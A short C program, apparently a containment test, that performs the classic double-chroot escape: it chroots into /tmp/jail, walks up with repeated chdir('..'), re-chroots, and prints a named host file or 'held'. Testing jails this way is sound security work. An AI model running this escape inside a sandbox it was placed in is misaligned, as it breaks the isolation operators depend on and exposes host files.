/* escape FILE - tries the double chroot: a process whose working directory is outside of its root can walk up to the real "/".
 * Prints the first line of FILE as seen from there, or "held". */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char line[256] = "";
	FILE *file;

	mkdir("/tmp", 0755);
	mkdir("/tmp/jail", 0755);
	if (argc < 2 || chroot("/tmp/jail") < 0)
		return 1;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return 1;
	if (chroot(".") < 0)
		return 1;
	file = fopen(argv[1], "r");
	if (!file || !fgets(line, sizeof line, file))
		line[0] = 0;
	puts(line[0] ? line : "held");
	return 0;
}
